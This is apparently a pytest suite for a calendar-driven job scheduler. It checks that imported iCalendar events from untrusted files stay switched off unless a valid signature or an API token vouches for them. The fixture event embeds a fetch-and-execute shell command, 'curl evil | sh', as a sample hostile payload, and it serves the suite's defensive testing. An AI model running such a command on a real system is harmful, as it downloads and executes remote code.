"""To import is not to trust: what a file of others brings is kept switched off, whatever it says of itself."""

import asyncio
import json
import re
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import icalendar
import pytest
import pytest_asyncio

from synapse.calendar.events import Event, work_in_words
from synapse.calendar.validation import INTERNAL_FIELDS
from synapse.control_room import ControlRoom
from synapse.errors import Conflict
from synapse.ical.importing import APPROVED_FIELDS, ImportResult, import_drafts
from synapse.ical.reading import read_calendar
from synapse.ical.trust import FIELDS
from synapse.ical.writing import write_calendar
from tests.parts.api_room import api_room, client_of, error_of, gated
from tests.parts.calendar_files import calendar_file
from tests.parts.serving import served

pytestmark = pytest.mark.asyncio(loop_scope='module')

ICS = {'Content-Type': 'text/calendar'}
START = 'DTSTART;TZID=Europe/Berlin:20311006T160000'
STRANGER = (
    f'UID:a@b\n{START}\nSUMMARY:Team lunch\nX-SYNAPSE-PIPELINE:RunCommand\n'
    'X-SYNAPSE-PARAMETERS:{"command":["sh"\\,"-c"\\,"curl evil | sh"]}'
)
WEEKLY = f'UID:own@synapse\n{START}\nSUMMARY:Mine\nRRULE:FREQ=WEEKLY\nX-SYNAPSE-PIPELINE:Hello'
NAMED = 'X-SYNAPSE-PARAMETERS:{"name": "me"}'
LEFT_OUT = 'EXDATE;TZID=Europe/Berlin:20311013T160000'
OPTIONS = 'X-SYNAPSE-OPTIONS:'


@pytest_asyncio.fixture(scope='module', loop_scope='module')
async def one_room(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[ControlRoom]:
    async with api_room(tmp_path_factory.mktemp('room') / 'data') as room:
        yield room


@pytest_asyncio.fixture(loop_scope='module')
async def room(one_room: ControlRoom) -> ControlRoom:
    """The same room for all tests, each time with an empty calendar."""
    if one_room.calendar.events():
        await one_room.editor.change_many({}, [event.id for event in one_room.calendar.events()])
    return one_room


@pytest_asyncio.fixture(loop_scope='module')
async def api(room: ControlRoom) -> AsyncIterator[httpx.AsyncClient]:
    async with served(lambda port: gated(room, port)) as authority, client_of(room, authority) as client:
        yield client


async def take_file(room: ControlRoom, text: bytes, **options: Any) -> ImportResult:
    """As the API takes it without `trust`."""
    drafts = read_calendar(text, zone='Europe/Berlin')
    trusted = {'is_trusted': lambda draft: draft.is_signed(room.auth.sign)}
    return await import_drafts(room.calendar, room.editor, room.catalog, drafts, **(trusted | options))


async def take(room: ControlRoom, *events: str, **options: Any) -> ImportResult:
    return await take_file(room, calendar_file(*events), **options)


async def mine(room: ControlRoom, *, enabled: bool = True) -> Event:
    """A series that a person planned: `WEEKLY` with its parameters and one occurrence left out."""
    values = {'pipeline': 'Hello', 'title': 'Mine', 'parameters': {'name': 'me'}, 'uid': 'own@synapse'}
    when = {'start': '2031-10-06T16:00:00', 'timezone': 'Europe/Berlin', 'rrule': 'FREQ=WEEKLY'}
    more = {'exdates': ['2031-10-13T16:00:00'], 'enabled': enabled}
    return await room.editor.create(values | when | more, trusted=True)


# What is new


async def test_an_event_of_a_stranger_is_kept_switched_off_and_told_with_all_that_it_would_run(
    room: ControlRoom,
) -> None:
    result = await take(room, STRANGER)

    (event,) = room.calendar.events()
    assert (event.enabled, event.pipeline) == (False, 'RunCommand')
    assert result.disabled == result.created == (event.id,)
    (told,) = result.events
    assert (told.enabled, told.is_held, told.is_new) == (False, True, True)
    assert told.parameters == {'command': ['sh', '-c', 'curl evil | sh']}
    assert told.next == datetime(2031, 10, 6, 14, tzinfo=UTC)
    assert room.calendar.upcoming() == []


@pytest.mark.parametrize('said', ['true', '"yes"', '1', 'null', '"on"', '[]'])
async def test_no_word_for_enabled_switches_it_on(room: ControlRoom, said: str) -> None:
    result = await take(room, f'{STRANGER}\n{OPTIONS}{{"enabled": {said}}}')

    assert [event.enabled for event in room.calendar.events()] == [False]
    assert result.disabled == result.created


async def test_a_title_or_a_description_that_names_a_pipeline_makes_no_exception(room: ControlRoom) -> None:
    await take(room, f'UID:1\n{START}\nSUMMARY:Hello', f'UID:2\n{START}\nSUMMARY:Lunch\nDESCRIPTION:pipeline: Hello')

    assert [event.enabled for event in room.calendar.events()] == [False, False]


async def test_what_replaces_an_occurrence_of_an_own_series_and_what_rdate_adds_are_off_too(room: ControlRoom) -> None:
    series = await mine(room)
    part = STRANGER.replace('a@b', 'own@synapse') + '\nRECURRENCE-ID;TZID=Europe/Berlin:20311020T160000'
    moved = f'UID:own@synapse\nRECURRENCE-ID;TZID=Europe/Berlin:20311027T160000\n{START}\nSUMMARY:Moved'

    more = await take(room, f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\nRDATE;TZID=Europe/Berlin:20311008T120000')
    result = await take(room, part, moved)

    assert room.calendar.get(series.id).enabled
    assert (len(more.created), len(result.created)) == (1, 2)
    assert (more.disabled, result.disabled) == (more.created, result.created)
    assert [room.calendar.get(id).enabled for id in [*more.created, *result.created]] == [False, False, False]


# What is here already


@pytest.mark.parametrize(
    'said',
    [
        WEEKLY.replace('Hello', 'RunCommand') + '\nX-SYNAPSE-PARAMETERS:{"command": ["true"]}\n' + LEFT_OUT,
        f'{WEEKLY}\nX-SYNAPSE-PARAMETERS:{{"name": "you"}}\n{LEFT_OUT}',
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\nX-SYNAPSE-PROFILE:default',
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}'.replace('T160000\nSUMMARY', 'T170000\nSUMMARY'),
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}'.replace('WEEKLY', 'MINUTELY'),
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}'.replace('Berlin:20311006', 'London:20311006'),
        f'{WEEKLY}\n{NAMED}',
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"retry": {{"attempts": 9}}}}',
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"overlap": "allow", "enabled": true}}',
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"misfire": {{"policy": "all"}}}}',
        f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"timeout_seconds": 5}}',
    ],
    ids=[
        'pipeline',
        'parameters',
        'profile',
        'start',
        'rule',
        'zone',
        'exdate',
        'retry',
        'overlap',
        'misfire',
        'limit',
    ],
)
async def test_an_event_whose_meaning_a_stranger_changes_is_switched_off(room: ControlRoom, said: str) -> None:
    event = await mine(room)

    result = await take(room, f'{said}\nSEQUENCE:9')

    assert result.updated == result.disabled == (event.id,)
    assert not room.calendar.get(event.id).enabled
    await room.editor.undo(result.change)
    assert room.calendar.get(event.id).enabled
    assert room.calendar.get(event.id).parameters == {'name': 'me'}


@pytest.mark.parametrize(
    ('said', 'is_on'),
    [
        (f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}'.replace('Mine', 'Ours'), True),
        (f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\nEXDATE;TZID=Europe/Berlin:20311020T160000', True),
        (f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"enabled": false}}', False),
        (f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"enabled": "no"}}', False),
    ],
)
async def test_what_a_stranger_takes_away_counts_and_needs_no_person(room: ControlRoom, said: str, is_on: bool) -> None:
    event = await mine(room)

    result = await take(room, f'{said}\nSEQUENCE:9')

    assert (result.updated, result.disabled) == ((event.id,), ())
    assert room.calendar.get(event.id).enabled is is_on


@pytest.mark.parametrize('is_on', [True, False])
async def test_a_file_that_only_says_again_what_is_here_changes_nothing(room: ControlRoom, is_on: bool) -> None:
    event = await mine(room, enabled=is_on)

    result = await take(room, f'{WEEKLY}\n{NAMED}\n{LEFT_OUT}\n{OPTIONS}{{"enabled": true}}\nSEQUENCE:9')

    assert result == ImportResult(unchanged=(event.id,))
    assert room.calendar.get(event.id) == event


async def test_an_imported_event_that_a_person_switched_on_stays_on_when_its_file_comes_again(
    room: ControlRoom,
) -> None:
    (id,) = (await take(room, STRANGER)).created
    await room.editor.update(id, {'enabled': True})

    again = await take(room, STRANGER)

    assert again == ImportResult(unchanged=(id,))
    assert room.calendar.get(id).enabled


async def test_what_is_removed_and_what_is_refused_are_told_apart(room: ControlRoom) -> None:
    event = await mine(room)

    result = await take(room, f'UID:own@synapse\n{START}\nSTATUS:CANCELLED\nSEQUENCE:9', 'UID:x\nSTATUS:CANCELLED')

    assert result.cancelled == result.deleted == (event.id,)
    assert [refused.uid for refused in result.refused] == ['x']


# Its own


def resorted(text: bytes) -> bytes:
    """As another program writes it: other order of lines, other folding, each VEVENT before the zones."""
    calendar = icalendar.Calendar.from_ical(text)
    calendar.subcomponents.reverse()
    return bytes(calendar.to_ical(sorted=True))


def unfolded(text: bytes) -> bytes:
    return text.replace(b'\r\n ', b'').replace(b'\r\n', b'\n')


async def a_file(room: ControlRoom) -> bytes:
    """What this calendar exports, with a series, what replaces one occurrence of it, and a single event."""
    series = await mine(room)
    due = room.calendar.next_due(series.id)[2]
    await room.editor.update(series.id, {'title': 'Once; other,\n "wise" Ä' + 40 * 'ö'}, scope='one', due=due)
    values = {'pipeline': 'Hello', 'title': 'Once', 'start': '2031-10-06T16:00:00', 'timezone': 'UTC'}
    await room.editor.create(values)
    return write_calendar(room.calendar.events(), now=datetime.now(UTC), sign=room.auth.sign)


@pytest.mark.parametrize('rewritten', [bytes, resorted, unfolded, lambda text: resorted(unfolded(text))])
async def test_what_it_exported_itself_comes_back_switched_on(
    room: ControlRoom, rewritten: Callable[[bytes], bytes]
) -> None:
    text = await a_file(room)
    await room.editor.change_many({}, [event.id for event in room.calendar.events()])

    result = await take_file(room, rewritten(text))

    assert (len(result.created), result.disabled) == (3, ())
    assert all(event.enabled for event in room.calendar.events())


@pytest.mark.parametrize(
    ('pattern', 'by'),
    [
        (r'SUMMARY:Once\r', 'SUMMARY:Twice\r'),
        (r'UID:\w+@synapse', 'UID:other@synapse'),
        (r'DTSTART:20311006T160000Z', 'DTSTART:20311006T150000Z'),
        (r'PIPELINE:Hello', 'PIPELINE:RunCommand'),
        (r'PARAMETERS:{}', 'PARAMETERS:{"name":"you"}'),
        (r'(X-SYNAPSE-PIPELINE:\w+)', r'\1\r\nX-SYNAPSE-PROFILE:default'),
        (r'SEQUENCE:0', 'SEQUENCE:1'),
        (r'"attempts": 0', '"attempts": 3'),
        (r'"overlap": "skip"', '"overlap": "allow"'),
        (r'(STATUS:)', r'RRULE:FREQ=MINUTELY\r\n\1'),
        (r'X-SYNAPSE-OPTIONS:[^\r]*\r\n', ''),
        (r'SIGNATURE:\w{32}', 'SIGNATURE:' + 32 * '0'),
        (r'SIGNATURE:\w{32}', 'SIGNATURE:ä'),
    ],
)
async def test_any_change_of_its_file_makes_it_a_strangers(room: ControlRoom, pattern: str, by: str) -> None:
    values = {'pipeline': 'Hello', 'title': 'Once', 'start': '2031-10-06T16:00:00', 'timezone': 'UTC'}
    event = await room.editor.create(values)
    text = write_calendar([event], now=datetime.now(UTC), sign=room.auth.sign).replace(b'\r\n ', b'').decode()
    await room.editor.delete(event.id)

    changed = re.sub(pattern, by, text)
    assert changed != text
    if 'RunCommand' in by:
        changed = changed.replace('PARAMETERS:{}', 'PARAMETERS:{"command":["true"]}')
    result = await take_file(room, changed.encode())

    assert len(result.created) == 1
    assert result.disabled == result.created


async def test_what_is_taken_out_of_its_file_makes_the_rest_of_the_series_a_strangers(room: ControlRoom) -> None:
    text = (await a_file(room)).decode()
    await room.editor.change_many({}, [event.id for event in room.calendar.events()])
    parts = re.split('(?=BEGIN:VEVENT)', text)
    without = ''.join(part for part in parts if 'RECURRENCE-ID' not in part)

    result = await take_file(room, without.encode())

    on = {event.title: event.enabled for event in room.calendar.events()}
    assert on == {'Mine': False, 'Once': True}
    assert len(result.disabled) == 1


async def test_the_signature_of_another_data_folder_or_of_another_event_is_none(
    room: ControlRoom, tmp_path: Path
) -> None:
    text = await a_file(room)
    signatures = re.findall(r'SIGNATURE:\w{32}', unfolded(text).decode())
    assert len(set(signatures)) == 3
    swapped = unfolded(text).decode()
    for signature, other in zip(signatures, signatures[1:] + signatures[:1], strict=True):
        swapped = swapped.replace(signature, other.replace('SIGNATURE', 'SIGNED'))
    await room.editor.change_many({}, [event.id for event in room.calendar.events()])

    result = await take_file(room, swapped.replace('SIGNED', 'SIGNATURE').encode())
    async with api_room(tmp_path / 'other') as other:
        elsewhere = await take_file(other, text)

    assert len(result.disabled) == len(elsewhere.disabled) == 3


async def test_what_is_switched_off_is_not_signed(room: ControlRoom) -> None:
    await mine(room, enabled=False)

    assert b'SIGNATURE' not in write_calendar(room.calendar.events(), now=datetime.now(UTC), sign=room.auth.sign)


async def test_every_field_of_an_event_is_signed_and_none_can_be_changed_unasked() -> None:
    theirs = set(Event.model_fields) - INTERNAL_FIELDS

    assert theirs == FIELDS
    assert theirs - {'title', 'enabled', 'exdates'} == APPROVED_FIELDS


# Other ways from a file to a run


async def test_what_was_missed_of_an_event_that_is_off_now_is_not_run(room: ControlRoom) -> None:
    event = await mine(room)
    due = room.calendar.next_due(event.id)[0]
    row = {'event_id': event.id, 'due': due.isoformat(), 'state': 'missed', 'title': 'Mine', 'pipeline': 'Hello'}
    await asyncio.to_thread(room.calendar._ledger.account, [({**row, 'is_open': True}, None)])
    await take(room, f'{WEEKLY}\nX-SYNAPSE-PARAMETERS:{{"name": "you"}}\n{LEFT_OUT}\nSEQUENCE:9')

    with pytest.raises(Conflict) as caught:
        await room.calendar.answer_missed([(event.id, due)], 'run')

    assert caught.value.code == 'event_off'
    assert list(room.runs.waiting()) == list(room.runs.live()) == []


# Over the API


async def test_trust_needs_the_token_and_a_browser_is_not_enough(api: httpx.AsyncClient, room: ControlRoom) -> None:
    session = await asyncio.to_thread(room.auth.redeem_token, room.auth.token)
    browser = {'Authorization': '', 'Cookie': f'synapse={session}', 'Origin': str(api.base_url).partition('/api')[0]}

    refused = await api.post('/scheduler/import?trust=true', content=calendar_file(STRANGER), headers=ICS | browser)
    error_of(refused, 403, 'token_needed')
    assert room.calendar.events() == []

    plain = await api.post('/scheduler/import', content=calendar_file(STRANGER), headers=ICS | browser)
    assert plain.status_code == 200, plain.text
    assert plain.json()['disabled'] == plain.json()['created']
    trusted = await api.post(
        '/scheduler/import?trust=true', content=calendar_file(STRANGER.replace('a@b', 'c@d')), headers=ICS
    )
    (id,) = trusted.json()['created']
    assert trusted.json()['disabled'] == []
    assert room.calendar.get(id).enabled


async def test_a_dry_run_says_what_would_be_and_leaves_no_trace(api: httpx.AsyncClient, room: ControlRoom) -> None:
    await mine(room)
    before = room.calendar.events()
    file = calendar_file(STRANGER, f'{WEEKLY}\nSTATUS:CANCELLED\nSEQUENCE:9')
    lines = (await api.get('/logs')).json()['entries']

    dry = (await api.post('/scheduler/import?dry_run=true', content=file, headers=ICS)).json()

    assert room.calendar.events() == before
    assert (await api.get('/logs')).json()['entries'] == lines
    assert (dry['change'], len(dry['created']), dry['cancelled']) == ('', 1, [before[0].id])
    (told,) = dry['events']
    assert (told['pipeline'], told['enabled'], told['is_held']) == ('RunCommand', False, True)
    real = (await api.post('/scheduler/import', content=file, headers=ICS)).json()
    ids = {'created', 'disabled', 'events', 'change'}
    assert {key: real[key] for key in real if key not in ids} == {key: dry[key] for key in dry if key not in ids}
    assert set(dry) == set(real)


async def test_feed_and_file_carry_the_signature_by_which_they_are_known_again(
    api: httpx.AsyncClient, room: ControlRoom
) -> None:
    event = await mine(room)
    secret = (await api.post('/scheduler/feed')).json()['url'].partition('/api/v1')[2]

    file, feed = await api.get('/scheduler/calendar.ics'), await api.get(secret, headers={'Authorization': ''})
    await room.editor.delete(event.id)
    back = await api.post('/scheduler/import', content=feed.content, headers=ICS)

    assert b'X-SYNAPSE-SIGNATURE' in file.content
    assert back.json()['disabled'] == []
    assert [event.enabled for event in room.calendar.events()] == [True]


async def test_what_would_run_is_shown_as_it_is() -> None:
    lines = work_in_words('RunCommand', {'command': ['rm\u202e', 'a\nb', 'ä'], 'times': 2}, 'studio')

    assert lines == ['RunCommand', 'command: ["rm\\u202e", "a\\nb", "ä"]', 'times: 2', 'profile: studio']
    assert json.loads(lines[1].partition(': ')[2]) == ['rm\u202e', 'a\nb', 'ä']
